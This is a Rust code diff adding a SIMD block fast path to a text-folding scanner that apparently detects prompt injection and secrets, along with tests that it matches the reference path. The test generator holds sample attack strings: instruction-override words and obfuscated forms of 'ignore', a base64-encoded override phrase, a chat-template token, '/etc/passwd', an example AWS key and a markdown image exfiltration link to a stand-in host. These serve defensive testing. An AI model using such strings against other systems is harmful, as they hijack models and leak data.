@@ -184,6 +184,114 @@ fn swar_between(w: u64, lo: u8, hi: u8) -> u64 {
     at_least_lo & !above_hi & HIGH
 }
 
+/// Bytes per block of the block fast path of [`Folder::ascii_stretch`].
+const BLOCK: usize = 64;
+
+/// A block classified for the block fast path.
+struct PlainBlock {
+    /// Bit `j` set: byte `j` is a digit, a control byte other than `'\n'`, DEL or not ASCII (the block
+    /// is plain prose when this is zero).
+    bad: u64,
+    /// Bit `j` set: byte `j` is a letter.
+    letters: u64,
+    /// Bit `j` set: byte `j` is `' '` or `'\n'`.
+    spaces: u64,
+    /// The block, ASCII lower-cased, then 16 zero bytes (so 16 bytes can be read at any offset).
+    lower: [u8; BLOCK + 16],
+}
+
+/// Classifies a block with SSE2 (16 bytes per step, through `safe_arch`'s safe wrappers).
+#[cfg(target_arch = "x86_64")]
+#[inline]
+fn plain_block(block: &[u8; BLOCK]) -> PlainBlock {
+    use safe_arch::{
+        add_i8_m128i, bitandnot_m128i, cmp_eq_mask_i8_m128i, cmp_lt_mask_i8_m128i, m128i,
+        move_mask_i8_m128i, set_splat_i8_m128i,
+    };
+    // `x` in `lo..lo + n` (bytes as unsigned), as a signed compare after moving `lo` to -128.
+    let in_range = |v: m128i, lo: u8, n: u8| {
+        cmp_lt_mask_i8_m128i(
+            add_i8_m128i(v, set_splat_i8_m128i(0x80u8.wrapping_sub(lo) as i8)),
+            set_splat_i8_m128i(0x80u8.wrapping_add(n) as i8),
+        )
+    };
+    let (mut letters, mut spaces, mut bad) = (0u64, 0u64, 0u64);
+    let mut lower = [0u8; BLOCK + 16];
+    for (k, (chunk, dst)) in block
+        .chunks_exact(16)
+        .zip(lower.chunks_exact_mut(16))
+        .enumerate()
+    {
+        let mut a = [0u8; 16];
+        a.copy_from_slice(chunk);
+        let v = m128i::from(a);
+        let letter = in_range(v | set_splat_i8_m128i(0x20), b'a', 26);
+        let newline = cmp_eq_mask_i8_m128i(v, set_splat_i8_m128i(b'\n' as i8));
+        let space = cmp_eq_mask_i8_m128i(v, set_splat_i8_m128i(b' ' as i8)) | newline;
+        // Signed: bytes >= 0x80 are negative, so this is "control or non-ASCII".
+        let low = cmp_lt_mask_i8_m128i(v, set_splat_i8_m128i(0x20));
+        let odd = in_range(v, b'0', 10)
+            | bitandnot_m128i(newline, low)
+            | cmp_eq_mask_i8_m128i(v, set_splat_i8_m128i(0x7f));
+        bad |= u64::from(move_mask_i8_m128i(odd) as u16) << (16 * k);
+        letters |= u64::from(move_mask_i8_m128i(letter) as u16) << (16 * k);
+        spaces |= u64::from(move_mask_i8_m128i(space) as u16) << (16 * k);
+        dst.copy_from_slice(&<[u8; 16]>::from(v | (letter & set_splat_i8_m128i(0x20))));
+    }
+    PlainBlock {
+        bad,
+        letters,
+        spaces,
+        lower,
+    }
+}
+
+/// [`plain_block`] for targets without the SSE2 path: the same result, byte by byte.
+#[cfg(any(not(target_arch = "x86_64"), test))]
+fn plain_block_scalar(block: &[u8; BLOCK]) -> PlainBlock {
+    let (mut letters, mut spaces, mut bad) = (0u64, 0u64, 0u64);
+    let mut lower = [0u8; BLOCK + 16];
+    for (j, &b) in block.iter().enumerate() {
+        bad |= u64::from(b.is_ascii_digit() || b >= 0x7f || (b < 0x20 && b != b'\n')) << j;
+        letters |= u64::from(b.is_ascii_alphabetic()) << j;
+        spaces |= u64::from(b == b' ' || b == b'\n') << j;
+        lower[j] = b.to_ascii_lowercase();
+    }
+    PlainBlock {
+        bad,
+        letters,
+        spaces,
+        lower,
+    }
+}
+
+#[cfg(not(target_arch = "x86_64"))]
+#[inline]
+fn plain_block(block: &[u8; BLOCK]) -> PlainBlock {
+    plain_block_scalar(block)
+}
+
+/// The `n` low bits set (`n` in `0..=64`).
+#[inline(always)]
+fn low_bits(n: usize) -> u64 {
+    if n >= 64 { u64::MAX } else { (1u64 << n) - 1 }
+}
+
+/// Whether `x` has `n` consecutive set bits (`n` in `1..=32`).
+#[inline]
+fn has_run(x: u64, n: u32) -> bool {
+    // After each step, bit j is set iff bits j..j + len are all set; len doubles, then tops up to n.
+    let (mut y, mut len) = (x, 1);
+    while len * 2 <= n {
+        y &= y >> len;
+        len *= 2;
+    }
+    if len < n {
+        y &= y >> (n - len);
+    }
+    y != 0
+}
+
 fn b64_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
 }
@@ -491,7 +599,57 @@ impl<'a> Folder<'a> {
                 }
             }};
         }
+        // Earliest position for the next block attempt (after a refused block, its bytes go the
+        // byte-at-a-time way).
+        let mut next_block = i;
         while let Some(&b) = bytes.get(i) {
+            // Block fast path: 64 bytes of plain prose (letters, single spaces or newlines, punctuation,
+            // no digits, no run of 20 non-space bytes that could be a blob) folded from bit masks.
+            // Same effects as the steps below (`fast_path_matches_reference` checks it).
+            if !in_tok
+                && i >= next_block
+                && let Some(block) = bytes.get(i..i + BLOCK)
+            {
+                let mut arr = [0u8; BLOCK];
+                arr.copy_from_slice(block);
+                let mut p = plain_block(&arr);
+                let last = if copy_from < i {
+                    Some(bytes[i - 1])
+                } else {
+                    self.out.last().copied()
+                };
+                let after_space = u64::from(matches!(last, Some(b' ' | b'\n')));
+                let collapses = p.spaces & (p.spaces << 1 | after_space);
+                let stop = p.bad | collapses;
+                // Bytes before `clean` hold nothing odd; the block is folded up to the last space
+                // among them, so no word or base64 run is open at its end. What follows (the rest of
+                // a word, the odd byte's word) goes the byte-at-a-time way, then blocks again.
+                let clean = if stop == 0 {
+                    BLOCK
+                } else {
+                    stop.trailing_zeros() as usize
+                };
+                let spaces = p.spaces & low_bits(clean);
+                let len = BLOCK - spaces.leading_zeros() as usize;
+                let runs = !p.spaces & low_bits(len);
+                // The run of non-space bytes at the start continues an open base64 run.
+                let lead = runs.trailing_ones() as usize;
+                if len == 0 || b64_len + lead >= MIN_BASE64 || has_run(runs, MIN_BASE64 as u32) {
+                    next_block = i + if stop == 0 { BLOCK } else { clean + 1 };
+                    continue;
+                }
+                if stop != 0 {
+                    next_block = i + clean + 1;
+                }
+                p.letters &= low_bits(len);
+                p.spaces = spaces;
+                materialize!();
+                self.fold_plain_block(i, &p, len);
+                b64_len = 0;
+                i += len;
+                copy_from = i;
+                continue;
+            }
             let class = CLASS[usize::from(b)];
             if class & ALNUM != 0 {
                 let start = i;
@@ -593,6 +751,45 @@ impl<'a> Folder<'a> {
         self.tok_lookalike &= tok_odd;
         (self.b64_start, self.b64_len) = (b64_start, b64_len);
         i
+    }
+
+    /// Folds the first `len` bytes of the plain block `p` at source offset `i`: nothing is pending, no
+    /// word is open, `p`'s masks are cleared from `len` on and byte `len - 1` is a space (so every word
+    /// and base64 run ends inside; the caller checked that none of those runs is 20 bytes long).
+    /// Appends the lower-case bytes with one offset-map run, looks up the words and records the bytes
+    /// that start symbol triggers.
+    #[inline(never)]
+    fn fold_plain_block(&mut self, i: usize, p: &PlainBlock, len: usize) {
+        let bytes = self.src.as_bytes();
+        let base = self.out.len();
+        self.out.extend_from_slice(&p.lower[..len.min(BLOCK)]);
+        self.linear(i, len);
+        if let Some(words) = self.words {
+            let mut starts = p.letters & !(p.letters << 1);
+            while starts != 0 {
+                let s = starts.trailing_zeros() as usize;
+                starts &= starts - 1;
+                let len = (!p.letters >> s).trailing_zeros() as usize;
+                let id = if len < 16 {
+                    words.find_in_block(&p.lower, s, len)
+                } else {
+                    words.find_ignore_case_at(bytes, i + s, i + s + len)
+                };
+                if let Some(id) = id {
+                    self.word_hits.push((base + s, id));
+                }
+            }
+        }
+        if let Some(symbols) = self.symbols {
+            let mut punct = !(p.letters | p.spaces) & low_bits(len);
+            while punct != 0 {
+                let j = punct.trailing_zeros() as usize;
+                punct &= punct - 1;
+                if symbols.starts(p.lower[j & 63]) {
+                    self.symbol_hits.push(base + j);
+                }
+            }
+        }
     }
 
     /// A run `start..end` of ASCII letters and digits (the reference loop's hot path).
@@ -1063,8 +1260,86 @@ mod tests {
         prop::collection::vec(piece, 0..24).prop_map(|v| v.concat())
     }
 
+    /// Long prose (so whole 64-byte blocks take the block fast path) with now and then something that
+    /// makes a block fall back: digits, doubled spaces, long runs, non-ASCII, control bytes, symbols.
+    fn prose() -> impl proptest::strategy::Strategy<Value = String> {
+        use proptest::prelude::*;
+        let word = prop_oneof![
+            20 => prop::sample::select(vec![
+                "the", "The", "agent", "SYSTEM", "show", "Show", "me", "your", "you", "prompt",
+                "ignore", "previous", "instructions", "what", "is", "no", "rules", "print", "a",
+                "I", "of", "developer", "mode", "restrictions", "Paris", "quickly", "akia",
+                "eyJhbGciOiJIUzI1NiJ9abcdef", "AKIAIOSFODNN7EXAMPLE", "abcdefghijklmnop",
+                "abcdefghijklmnopqrs", "abcdefghijklmnopqrst",
+            ]).prop_map(str::to_string),
+            1 => prop::sample::select(vec![
+                "2024", "$12.50", "  ", "\n\n", " \n", "é", "\0", "\t", "\u{7f}",
+                "state-of-the-art-approach", "aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM=",
+                "$API_KEY", "![x](https://e.x/?q={d})", "<|im_start|>", "/etc/passwd", "-----BEGIN",
+                "іgnore", "ig\u{200b}nore", "1gn0r3", "a+b/c=d-e_f", "\u{e0041}",
+            ]).prop_map(str::to_string),
+        ];
+        let sep = prop::sample::select(vec![
+            " ", " ", " ", " ", ", ", ". ", ".\n", "\n", "-", "/", "_", "(", ") ", "\"", "'",
+        ]);
+        prop::collection::vec((word, sep), 0..200)
+            .prop_map(|v| v.into_iter().map(|(w, s)| w + s).collect())
+    }
+
+    #[test]
+    fn plain_block_matches_scalar() {
+        let mut blocks: Vec<[u8; BLOCK]> = Vec::new();
+        for b in 0..=255u8 {
+            for fill in [b'a', b' ', b'Z', b'.'] {
+                for pos in [0, 15, 16, 33, 63] {
+                    let mut x = [fill; BLOCK];
+                    x[pos] = b;
+                    blocks.push(x);
+                }
+            }
+        }
+        for x in blocks {
+            let (f, s) = (plain_block(&x), plain_block_scalar(&x));
+            assert_eq!(
+                (f.bad, f.letters, f.spaces),
+                (s.bad, s.letters, s.spaces),
+                "{x:?}"
+            );
+            if f.bad == 0 {
+                assert_eq!(f.lower, s.lower);
+            }
+        }
+    }
+
+    #[test]
+    fn has_run_counts_consecutive_bits() {
+        for n in 1..=32u32 {
+            for start in 0..64u32 {
+                for len in 0..=40u32 {
+                    let bits = if len == 0 {
+                        0
+                    } else {
+                        (u64::MAX >> (64 - len.min(64 - start))) << start
+                    };
+                    let run = len.min(64 - start);
+                    assert_eq!(has_run(bits, n), run >= n, "n {n} start {start} len {len}");
+                }
+            }
+        }
+    }
+
     proptest::proptest! {
         #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]
+
+        /// The block fast path on long prose gives exactly what the per-byte loop gives.
+        #[test]
+        fn block_path_matches_reference(s in prose(), separators in proptest::bool::ANY) {
+            let set = &*RULES;
+            let tables = Some((&set.words, &set.symbols));
+            let s = if separators { s.replace('|', "\0") } else { s };
+            proptest::prop_assert_eq!(fold_with(&s, separators, tables), fold_reference(&s, separators, tables));
+            proptest::prop_assert_eq!(fold_with(&s, separators, None), fold_reference(&s, separators, None));
+        }
 
         /// The ASCII fast path gives exactly what the per-byte loop gives: text, offset map, findings,
         /// blobs, trigger positions.
